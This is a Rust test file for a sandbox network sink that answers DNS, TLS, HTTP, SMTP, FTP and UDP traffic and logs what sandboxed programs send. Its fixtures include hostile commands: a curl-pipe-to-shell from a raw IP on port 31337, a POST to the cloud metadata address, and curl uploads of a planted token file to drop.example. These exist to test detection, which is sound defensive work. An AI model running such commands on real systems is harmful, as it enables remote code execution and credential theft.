//! What ordinary and hostile clients get from the sink, and what it writes down.

use std::path::PathBuf;

use sandbox::{Decoy, MonitorChoice, Net};

use super::{have, run, sink, spec};

#[test]
fn curl_gets_a_name_a_trusted_certificate_and_an_answer() {
    if !have(&["curl"]) {
        return;
    }
    let seen = sink("curl -sS -A agent https://api.shop.example/v1/items?q=1 && echo done");
    assert!(seen.output().contains("done"), "{}", seen.errors());
    let dns = seen.one("A question", |asked| asked.protocol == "dns" && asked.line == "A");
    assert_eq!((dns.host.as_str(), dns.peer.as_str()), ("api.shop.example", "10.0.2.3:53"));
    let tls = seen.one("handshake", |asked| asked.protocol == "tls");
    assert_eq!(tls.host, "api.shop.example");
    assert!(tls.line.starts_with("ClientHello TLS 1.3 alpn h2,http/1.1"), "{}", tls.line);
    assert!(tls.peer.starts_with("198.18.") && tls.head[0] == 0x16, "{tls:?}");
    let http = seen.one("request", |asked| asked.protocol == "http");
    assert_eq!(http.line, "GET /v1/items?q=1 HTTP/1.1");
    assert_eq!((http.host.as_str(), http.answer), ("api.shop.example", "sink"));
    assert_eq!(http.event.task.comm.to_lossy(), "curl");
    assert!(http.sent > 60 && http.received > 60, "{http:?}");
}

#[test]
fn every_address_and_port_answers_and_talks_its_protocol() {
    if !have(&["curl", "perl"]) {
        return;
    }
    let seen = sink(
        r#"curl -sS http://203.0.113.9:31337/a.sh | sh && echo executed
        curl -sS -X POST --data-binary 'key=value&other=1' http://169.254.169.254/latest/ >/dev/null
        perl -MIO::Socket::INET -e '
            sub ask { my ($to, @lines) = @_;
                my $s = IO::Socket::INET->new(PeerAddr => $to, Timeout => 10) or die "$to: $@";
                if ($to =~ /:(21|25)$/) { print scalar <$s>; }
                for (@lines) { print $s $_; print scalar <$s> if $to =~ /:(21|25)$/; }
                shutdown($s, 1); 1 while <$s>; }
            ask("198.51.100.1:25", "MAIL FROM:<a\@b>\r\n", "DATA\r\n");
            ask("198.51.100.1:21", "USER bob\r\n", "PASS hunter2\r\n");
            ask("198.51.100.2:4444", "{\"method\":\"login\"}\n");
            my $u = IO::Socket::INET->new(Proto => "udp", PeerAddr => "8.8.4.4:1514") or die;
            $u->send("<13>hello");'"#,
    );
    assert!(seen.output().contains("executed"), "{}", seen.errors());
    assert!(seen.output().contains("220 ") && seen.output().contains("230 "), "{}", seen.output());
    let script = seen.one("script", |asked| asked.line == "GET /a.sh HTTP/1.1");
    assert_eq!((script.peer.as_str(), script.host.as_str()), ("203.0.113.9:31337", "203.0.113.9"));
    let post = seen.one("post", |asked| asked.line.starts_with("POST"));
    assert_eq!(post.head, b"key=value&other=1");
    let mail = seen.one("mail", |asked| asked.peer == "198.51.100.1:25");
    assert_eq!((mail.protocol, mail.line.as_str()), ("tcp", "MAIL FROM:<a@b>; DATA"));
    let ftp = seen.one("ftp", |asked| asked.peer == "198.51.100.1:21");
    assert_eq!(ftp.line, "USER bob; PASS hunter2");
    let other = seen.one("other", |asked| asked.peer == "198.51.100.2:4444");
    assert_eq!((other.line.as_str(), other.sent), ("{\"method\":\"login\"}", 19));
    let udp = seen.one("datagram", |asked| asked.protocol == "udp");
    assert_eq!((udp.peer.as_str(), udp.line.as_str()), ("8.8.4.4:1514", "<13>hello"));
    assert_eq!(udp.event.task.comm.to_lossy(), "perl");
}

#[test]
fn tier_c_has_the_same_requests() {
    if !have(&["curl"]) {
        return;
    }
    let mut spec = spec("curl -sS http://a.example/x", Net::Sink);
    spec.monitor = MonitorChoice::Notify;
    let seen = run(&spec);
    assert_eq!(seen.output(), "OK\n", "{}", seen.errors());
    let http = seen.one("request", |asked| asked.protocol == "http");
    assert_eq!(http.event.task.comm.to_lossy(), "curl");
}

#[test]
fn openssl_wget_and_git_get_through_too() {
    if !have(&["openssl", "wget", "git"]) {
        return;
    }
    let seen = sink(
        "wget -qO- https://w.example/file.json
        echo Q | openssl s_client -connect 192.0.2.7:9443 -servername s.example 2>&1 \
            | grep -a 'Verify return code'
        git ls-remote https://g.example/repo.git 2>&1; true",
    );
    assert!(seen.output().contains("{}"), "{}", seen.errors());
    assert!(seen.output().contains("Verify return code: 0 (ok)"), "{}", seen.output());
    seen.one("wget", |asked| asked.protocol == "http" && asked.host == "w.example");
    let openssl = seen.one("openssl", |asked| asked.protocol == "tls" && asked.host == "s.example");
    assert_eq!(openssl.peer, "192.0.2.7:9443");
    let git = |asked: &super::Asked<'_>| asked.protocol == "http" && asked.host == "g.example";
    assert!(seen.requests().iter().any(git), "{:#?}", seen.requests());
}

#[test]
fn what_a_planted_file_says_is_recognised_on_its_way_out() {
    if !have(&["curl", "base64"]) {
        return;
    }
    let mut spec = spec(
        "curl -sS --data-binary @/tmp/key https://drop.example/a
        base64 -w0 /tmp/key | curl -sS --data-binary @- https://drop.example/b
        echo nothing of interest here | curl -sS --data-binary @- https://drop.example/c",
        Net::Sink,
    );
    // The file is there by the script's own doing: who plants it is not this test's business.
    let content = "token = 7fKq2LwZx9TbVn4RcYp1HsJd\n".to_owned();
    let script = spec.command.pop().unwrap().into_string().unwrap();
    spec.command.push(format!("printf '{content}' > /tmp/key\n{script}").into());
    spec.decoys = vec![Decoy {
        path: PathBuf::from("/tmp/decoy"),
        content: content.into(),
        mode: 0o600,
        modified: std::time::Duration::from_secs(1_700_000_000),
    }];
    let seen = run(&spec);
    for (path, found) in [("/a", true), ("/b", true), ("/c", false)] {
        let asked = seen.one(path, |asked| asked.line.starts_with(&format!("POST {path} ")));
        assert_eq!(asked.carries == ["/tmp/decoy"], found, "{path}: {:?}", asked.carries);
    }
}

#[test]
fn traffic_is_counted_by_the_kernel_and_nothing_leaves() {
    if !have(&["curl"]) {
        return;
    }
    let before = leaving();
    let seen = sink("head -c 200000 /dev/zero | curl -sS --data-binary @- http://up.example/");
    let http = seen.one("upload", |asked| asked.protocol == "http");
    assert!(http.sent >= 200_000, "{http:?}");
    if let Some(tcp) = seen.traffic().get("tcp") {
        assert!((200_000..400_000).contains(&tcp.sent_bytes), "{tcp:?}");
    }
    assert_eq!(leaving().0, before.0, "the host has another interface or route");
}

/// The host's interfaces and routes; what a run changed of them would show here.
fn leaving() -> (Vec<String>, u64) {
    let table = std::fs::read_to_string("/proc/net/dev").unwrap();
    let names = table.lines().skip(2).filter_map(|line| line.split(':').next());
    let routes = std::fs::read_to_string("/proc/net/route").unwrap();
    let mut all: Vec<String> = names.map(|name| name.trim().to_owned()).collect();
    all.extend(routes.lines().map(str::to_owned));
    (all, 0)
}

#[test]
fn a_request_is_whose_it_was_when_it_began() {
    if !have(&["perl", "sleep"]) {
        return;
    }
    // The process that spoke is another program by the time the connection ends.
    let seen = sink(
        r#"exec perl -MIO::Socket::INET -MFcntl -e '
            my $s = IO::Socket::INET->new(PeerAddr => "192.0.2.1:3333") or die;
            fcntl($s, F_SETFD, 0); $s->autoflush; print $s "hello\n";
            exec "sleep", "0.2";'"#,
    );
    let hello = seen.one("greeting", |asked| asked.line == "hello");
    assert_eq!(hello.event.task.comm.to_lossy(), "perl");
}
